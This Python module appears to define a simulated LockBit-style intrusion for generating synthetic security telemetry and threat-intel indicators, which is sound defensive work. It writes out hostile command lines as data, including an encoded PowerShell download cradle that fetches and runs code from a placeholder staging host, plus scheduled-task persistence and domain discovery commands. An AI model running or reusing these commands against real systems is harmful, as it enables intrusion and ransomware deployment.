"""LockBit-style intrusion: QakBot by phishing -> Cobalt Strike -> domain compromise -> encryption.

Timeline (minutes from the attack's start): 0 external port sweep; 40 phishing mail with a
macro document; 41 WINWORD spawns an encoded PowerShell download cradle; 42 QakBot DLL written
to %APPDATA% and run with rundll32, Run key and scheduled task; 45 on, HTTPS beacon every
~60 s (10 % jitter); 70 discovery burst; 80 LSASS access, 85 Kerberoasting; 100/110 PsExec-style
lateral movement to the file server and the domain controller; 115 DCSync; 140 shadow copies
deleted; 142 encryption (.lockbit + Restore-My-Files.txt); 150 logs cleared.
"""

from __future__ import annotations

import random
from collections.abc import Callable

from chainbreaker.simulate import hostactions as act
from chainbreaker.simulate import network as net
from chainbreaker.simulate.intel import CampaignIntel, FeedIndicator
from chainbreaker.simulate.model import Environment, Label
from chainbreaker.simulate.scenarios import steps
from chainbreaker.simulate.scenarios.base import Plan, Scenario, register
from chainbreaker.simulate.telemetry import Telemetry

STAGING_IP, STAGING = "198.51.100.23", "invoice-cdn.example.org"
#: The affiliate sweeps the perimeter from the VPS that later serves the loader (one rented box).
ATTACKER_SCAN = STAGING_IP
C2_IP, C2 = "203.0.113.66", "cdn-static.example.net"

L_RECON = Label("external port sweep", "reconnaissance", "T1595.001", "reconnaissance")
L_WEAPON = Label(
    "macro document built for the campaign", "weaponization", "T1587.001", "resource-development"
)
L_DELIVERY = Label("phishing attachment saved by Outlook", "delivery", "T1566.001", "initial-access")
L_OPEN = Label("user opens the attachment", "exploitation", "T1204.002", "execution")
L_CRADLE = Label("encoded PowerShell download cradle", "exploitation", "T1059.001", "execution")
# Phases follow chainbreaker.frameworks (a test checks each label against phases_for): ingress tool
# transfer is command-and-control, clearing logs (defense impairment) keeps the foothold: installation.
L_DOWNLOAD = Label("loader DLL downloaded", "command-and-control", "T1105", "command-and-control")
L_RUNDLL = Label("loader run with rundll32", "installation", "T1218.011", "stealth")
L_INJECT = Label("loader injects into wermgr.exe", "installation", "T1055", "stealth")
L_REGCFG = Label("loader keeps its configuration in the registry", "installation", "T1112", "persistence")
L_RUNKEY = Label("Run key persistence", "installation", "T1547.001", "persistence")
L_TASK = Label("scheduled task persistence", "installation", "T1053.005", "persistence")
L_C2 = Label("Cobalt Strike HTTPS beacon", "command-and-control", "T1071.001", "command-and-control")
L_TRUSTS = Label("discovery: domain trusts", "actions-on-objectives", "T1482", "discovery")
L_ADFIND = Label("discovery: AdFind computers", "actions-on-objectives", "T1087.002", "discovery")
L_LSASS = Label("LSASS memory access", "actions-on-objectives", "T1003.001", "credential-access")
L_ROAST = Label(
    "Kerberoasting (RC4 service tickets)", "actions-on-objectives", "T1558.003", "credential-access"
)
L_DCSYNC = Label("DCSync replication request", "actions-on-objectives", "T1003.006", "credential-access")
L_SHADOWS = Label("shadow copies deleted", "actions-on-objectives", "T1490", "impact")
L_CLEAR = Label("event logs cleared", "installation", "T1685.005", "defense-impairment")

CS_SIG = net.Signature(
    9100201,
    "ET MALWARE Cobalt Strike Beacon TLS fingerprint observed",
    "A Network Trojan was detected",
    1,
    "T1071.001",
    "Web Protocols",
    "TA0011",
    "Command_And_Control",
)

MALDOC_SHA256 = "9F3B6C2A7E1D4058B6A1C3E2F4D5A6B7C8D9E0F1A2B3C4D5E6F708192A3B4C5D"
MALDOC_NAME = "Invoice_30417.doc"

#: What a provider publishes about the campaign: the maldoc, the staging and C2 infrastructure.
INTEL = CampaignIntel(
    campaign="Invoice-themed QakBot distribution leading to LockBit",
    intrusion_set="LockBit affiliate (simulated)",
    description=(
        "Invoice-themed phishing with macro documents loading QakBot from a staging server that also "
        "scans victims' perimeters; Cobalt Strike over HTTPS follows, then LockBit encryption."
    ),
    indicators=(
        FeedIndicator(
            "weaponization",
            "QakBot macro document (invoice lure)",
            (("file:name", MALDOC_NAME), ("file:hashes.'SHA-256'", MALDOC_SHA256.lower())),
            90,
        ),
        FeedIndicator(
            "reconnaissance",
            "Perimeter scanner and QakBot staging server",
            (("ipv4-addr:value", STAGING_IP),),
            70,
            "anomalous-activity",
        ),
        FeedIndicator("delivery", "QakBot payload staging domain", (("domain-name:value", STAGING),), 85),
        FeedIndicator("command-and-control", "Cobalt Strike team server", (("ipv4-addr:value", C2_IP),), 90),
        FeedIndicator("command-and-control", "Cobalt Strike C2 domain", (("domain-name:value", C2),), 90),
    ),
)


@register
class LockBit(Scenario):
    name = "lockbit"
    description = (
        "QakBot phishing -> Cobalt Strike -> credential theft -> lateral movement -> LockBit encryption"
    )
    duration = 160 * 60.0
    intel = INTEL

    def plan(self, env: Environment, rng: random.Random, start: float) -> Plan:
        plan = Plan(start)
        victim = rng.choice(env.role("workstation"))
        fs, dc = env.first("fileserver"), env.dc
        user = victim.user
        assert user is not None
        admin = next(u for u in env.users if u.admin)
        roastable = [u for u in env.users if u.spn]
        appdata = f"C:\\Users\\{user.sam}\\AppData\\Roaming"
        dll = f"{appdata}\\Microsoft\\Oxtnqe\\kbqyv.dll"
        cache = f"C:\\Users\\{user.sam}\\AppData\\Local\\Microsoft\\Windows\\INetCache"
        doc = f"{cache}\\Content.Outlook\\K7QX2M1B\\{MALDOC_NAME}"
        service = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(7))
        s = plan.state

        def recon(tel: Telemetry, t: float) -> None:
            targets = [(victim, f"192.0.2.{i}") for i in range(1, 33)]  # the organisation's public /27
            steps.external_scan(
                tel,
                t,
                ATTACKER_SCAN,
                targets,
                (21, 22, 25, 80, 443, 445, 3389, 8443),
                L_RECON,
                rng,
                {"192.0.2.10": {25, 443}},
            )

        def deliver(tel: Telemetry, t: float) -> None:
            explorer = tel.state(victim).base["explorer"]
            outlook = tel.state(victim).base.get("outlook") or act.spawn(
                tel,
                victim,
                t,
                explorer,
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
            )
            tel.state(victim).base["outlook"] = outlook
            act.file_create(tel, victim, t + 20, outlook, doc, L_DELIVERY)
            act.stream_hash(tel, victim, t + 20.01, outlook, doc, MALDOC_SHA256, "about:internet", L_WEAPON)
            s["outlook"] = outlook

        def exploit(tel: Telemetry, t: float) -> None:
            word = act.spawn(
                tel,
                victim,
                t,
                s["outlook"],
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                f'"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "{doc}" /o ""',
                label=L_OPEN,
            )
            cradle = f"IEX (New-Object Net.WebClient).DownloadString('http://{STAGING}/q/inv.ps1')"
            ps = act.spawn(
                tel,
                victim,
                t + 6,
                word,
                steps.POWERSHELL,
                f"powershell.exe -nop -w hidden -enc {steps.encode_ps(cradle)}",
                label=L_CRADLE,
            )
            act.script_block(tel, victim, t + 6.5, ps, cradle, L_CRADLE)
            net.resolve(tel, t + 7, victim, STAGING, [STAGING_IP], proc=ps, label=L_DOWNLOAD)
            net.connect(
                tel,
                t + 7.1,
                victim,
                STAGING_IP,
                80,
                proc=ps,
                service="http",
                dst_name=STAGING,
                duration=1.4,
                orig_bytes=310,
                resp_bytes=412_160,
                label=L_DOWNLOAD,
                http=net.Http(
                    "GET",
                    STAGING,
                    "/q/kbqyv.dat",
                    "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.5247",
                    200,
                    0,
                    412_160,
                    "application/x-dosexec",
                ),
            )
            s["ps"] = ps

        def install(tel: Telemetry, t: float) -> None:
            ps = s["ps"]
            act.file_create(tel, victim, t, ps, dll, L_DOWNLOAD)
            loader = act.spawn(
                tel,
                victim,
                t + 2,
                ps,
                steps.RUNDLL32,
                f'rundll32.exe "{dll}",DllRegisterServer',
                label=L_RUNDLL,
            )
            wermgr = act.spawn(
                tel,
                victim,
                t + 2.5,
                loader,
                "C:\\Windows\\SysWOW64\\wermgr.exe",
                "C:\\Windows\\SysWOW64\\wermgr.exe",
                label=L_INJECT,
            )
            act.remote_thread(tel, victim, t + 2.6, loader, wermgr, L_INJECT)
            act.registry(
                tel, victim, t + 2.8, wermgr, f"HKU\\{user.sid}\\Software\\Microsoft\\Oxtnqe", None, L_REGCFG
            )
            act.registry(
                tel,
                victim,
                t + 3,
                loader,
                f"HKU\\{user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Oxtnqe",
                f'rundll32.exe "{dll}",DllRegisterServer',
                L_RUNKEY,
            )
            schtasks = act.spawn(
                tel,
                victim,
                t + 5,
                ps,
                "C:\\Windows\\System32\\schtasks.exe",
                'schtasks.exe /Create /F /SC ONLOGON /TN "Oxtnqe '
                f'Updater" /TR "rundll32.exe \\"{dll}\\",DllRegisterServer"',
                label=L_TASK,
            )
            act.create_task(
                tel,
                victim,
                t + 5.2,
                schtasks,
                "\\Oxtnqe Updater",
                "rundll32.exe",
                f'"{dll}",DllRegisterServer',
                L_TASK,
            )
            s["loader"] = loader

        def c2_first(tel: Telemetry, t: float) -> None:
            net.resolve(tel, t, victim, C2, [C2_IP], proc=s["loader"], label=L_C2)
            steps.beacon(tel, victim, t + 0.1, s["loader"], C2_IP, C2, L_C2, sysmon=True)
            net.eve_alert(
                tel,
                t + 0.2,
                victim.name,
                CS_SIG,
                victim.ip,
                tel.port(victim),
                C2_IP,
                443,
                L_C2,
                "tls",
                {"tls": {"sni": C2, "version": "TLS 1.2"}},
            )

        def discovery(tel: Telemetry, t: float) -> None:
            steps.discovery_burst(
                tel,
                victim,
                t,
                s["loader"],
                [
                    ("C:\\Windows\\System32\\whoami.exe", "whoami /all", steps.L_WHOAMI),
                    ("C:\\Windows\\System32\\net.exe", 'net group "Domain Admins" /domain', steps.L_GROUPS),
                    ("C:\\Windows\\System32\\nltest.exe", f"nltest /dclist:{env.domain}", steps.L_DCLIST),
                    ("C:\\Windows\\System32\\nltest.exe", "nltest /domain_trusts /all_trusts", L_TRUSTS),
                    (
                        "C:\\ProgramData\\ad\\AdFind.exe",
                        'AdFind.exe -f "(objectcategory=computer)" -csv name operatingSystem',
                        L_ADFIND,
                    ),
                ],
            )

        def credentials(tel: Telemetry, t: float) -> None:
            steps.lsass_access(tel, victim, t, s["loader"], L_LSASS)

        def roast(tel: Telemetry, t: float) -> None:
            steps.kerberoast(tel, dc, t, user, roastable, victim.ip, L_ROAST)

        def lateral(target_key: str) -> Callable[[Telemetry, float], None]:
            def run(tel: Telemetry, t: float) -> None:
                target = fs if target_key == "fs" else dc
                s[f"svc_{target_key}"] = steps.psexec_lateral(
                    tel, victim, target, t, admin, service, steps.L_LATERAL, steps.L_REMOTE_EXEC
                )

            return run

        def dcsync(tel: Telemetry, t: float) -> None:
            lid = act.logon(
                tel,
                dc,
                t,
                admin,
                3,
                victim.ip,
                tel.port(victim),
                victim.name,
                package="Kerberos",
                label=L_DCSYNC,
            )
            act.directory_access(
                tel,
                dc,
                t + 0.5,
                act.session(tel, admin, lid),
                "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}",
                L_DCSYNC,
            )

        def impact(tel: Telemetry, t: float) -> None:
            ransom_fs = s["svc_fs"]
            steps.delete_shadows(tel, fs, t, ransom_fs, L_SHADOWS)
            steps.delete_shadows(tel, victim, t + 20, s["loader"], L_SHADOWS)
            end = steps.encrypt_files(
                tel,
                fs,
                t + 120,
                ransom_fs,
                "D:\\Shares",
                120,
                ".lockbit",
                "Restore-My-Files.txt",
                steps.L_ENCRYPT,
                rng,
            )
            steps.encrypt_files(
                tel,
                victim,
                t + 130,
                s["loader"],
                f"C:\\Users\\{user.sam}\\Documents",
                30,
                ".lockbit",
                "Restore-My-Files.txt",
                steps.L_ENCRYPT,
                rng,
            )
            s["impact_end"] = end

        def cover(tel: Telemetry, t: float) -> None:
            steps.clear_logs(tel, fs, t, s["svc_fs"], L_CLEAR)
            steps.clear_logs(tel, dc, t + 30, s["svc_dc"], L_CLEAR)

        plan.at(0, recon)
        plan.at(40 * 60, deliver)
        plan.at(41 * 60, exploit)
        plan.at(42 * 60, install)
        plan.at(45 * 60, c2_first)
        beacon_t = 45 * 60 + 60.0
        while beacon_t < self.duration:
            plan.at(
                beacon_t,
                lambda tel, t: steps.beacon(tel, victim, t, s["loader"], C2_IP, C2, L_C2, sysmon=False),
            )
            beacon_t += 60.0 * rng.uniform(0.9, 1.1)
        plan.at(70 * 60, discovery)
        plan.at(80 * 60, credentials)
        plan.at(85 * 60, roast)
        plan.at(100 * 60, lateral("fs"))
        plan.at(110 * 60, lateral("dc"))
        plan.at(115 * 60, dcsync)
        plan.at(140 * 60, impact)
        plan.at(156 * 60, cover)
        return plan
